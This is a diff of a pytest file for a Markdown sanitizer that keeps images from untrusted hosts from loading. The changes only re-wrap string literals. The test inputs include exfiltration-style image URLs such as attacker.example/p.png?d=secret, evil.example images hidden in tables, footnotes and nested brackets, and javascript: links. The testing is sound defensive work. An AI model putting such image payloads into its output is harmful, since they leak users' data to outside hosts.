@@ -20,8 +20,8 @@ def rendered(text: str) -> str:
 
 @pytest.mark.parametrize(("text", "expected"), [
     ("Hi ![chart](https://attacker.example/p.png?d=secret) there",
-     "Hi [chart (image from attacker.example, not loaded)]"
-     "(https://attacker.example/p.png?d=secret) there"),
+     ("Hi [chart (image from attacker.example, not loaded)]"
+     "(https://attacker.example/p.png?d=secret) there")),
     ("![](http://a.example/x.png)", "[image from a.example, not loaded](http://a.example/x.png)"),
     ("![x][ref]\n\n[ref]: https://evil.example/r.png",  # reference-style
      "[x (image from evil.example, not loaded)][ref]\n\n[ref]: https://evil.example/r.png"),
@@ -34,22 +34,22 @@ def rendered(text: str) -> str:
     ("> a ![multi\n> line](http://evil.example/q.png) end",
      "> a [multi\n> line (image from evil.example, not loaded)](http://evil.example/q.png) end"),
     ("| a | ![t](http://evil.example/t.png) |\n|---|---|\n| `c` | d |",
-     "| a | [t (image from evil.example, not loaded)](http://evil.example/t.png) |\n"
-     "|---|---|\n| `c` | d |"),
+     ("| a | [t (image from evil.example, not loaded)](http://evil.example/t.png) |\n"
+     "|---|---|\n| `c` | d |")),
     ("x[^1]\n\n[^1]: note ![f](http://evil.example/f.png)",  # a footnote
      "x[^1]\n\n[^1]: note [f (image from evil.example, not loaded)](http://evil.example/f.png)"),
-    ("![data](data:image/png;base64,AAAA)", "data (image from data:image/png;base64,AAAA, "
-     "not loaded)"),
+    ("![data](data:image/png;base64,AAAA)", ("data (image from data:image/png;base64,AAAA, "
+     "not loaded)")),
     ("![rel](/dashboard)", "rel (image from /dashboard, not loaded)"),
-    ("[click](javascript:alert(1)) <javascript:alert(2)> [rel](/x) [ok](https://ok.example) "
-     "<https://auto.example> <me@mail.example>",
-     "click \\<javascript:alert(2)> rel [ok](https://ok.example) <https://auto.example> "
-     "<me@mail.example>"),
+    (("[click](javascript:alert(1)) <javascript:alert(2)> [rel](/x) [ok](https://ok.example) "
+     "<https://auto.example> <me@mail.example>"),
+     ("click \\<javascript:alert(2)> rel [ok](https://ok.example) <https://auto.example> "
+     "<me@mail.example>")),
     ("`![x](http://evil.example/a.png)`\n\n```\n![y](http://evil.example/b.png)\n```",
      "`![x](http://evil.example/a.png)`\n\n```\n![y](http://evil.example/b.png)\n```"),
     ("![ok](https://images.example.org/a.png) ![no](https://images.example.org.evil.example/b)",
-     "![ok](https://images.example.org/a.png) [no (image from images.example.org.evil.example,"
-     " not loaded)](https://images.example.org.evil.example/b)"),
+     ("![ok](https://images.example.org/a.png) [no (image from images.example.org.evil.example,"
+     " not loaded)](https://images.example.org.evil.example/b)")),
     ("No markup at all: *emphasis* only.", "No markup at all: *emphasis* only."),
 ])
 def test_rewrites(text, expected):
@@ -65,8 +65,8 @@ def test_rewrites(text, expected):
     "\\\\![a](http://evil.example/a.png)",  # an escaped backslash, then an image
     "- x\n  1. ![a](http://evil.example/a.png)\n\n     > ![b](http://evil.example/b.png)",
     "# ![h](http://evil.example/h.png)\n\nSetext ![s](http://evil.example/s.png)\n===",
-    "[x](http://a.example \"![t](http://evil.example/t.png)\") ![![in](http://evil.example/i)]"
-    "(http://evil.example/o)",
+    ("[x](http://a.example \"![t](http://evil.example/t.png)\") ![![in](http://evil.example/i)]"
+    "(http://evil.example/o)"),
     "![a](http://evil.example/a.png",  # unfinished while streaming: escaped anyway
     "[[[[[[[[[[[[[[[[[[[[[[[[[[![deep](http://evil.example/d.png)]]]]]]]]]]]]]]]]]]]]]]]]]]",
     "<img src=\"http://evil.example/h.png\">",
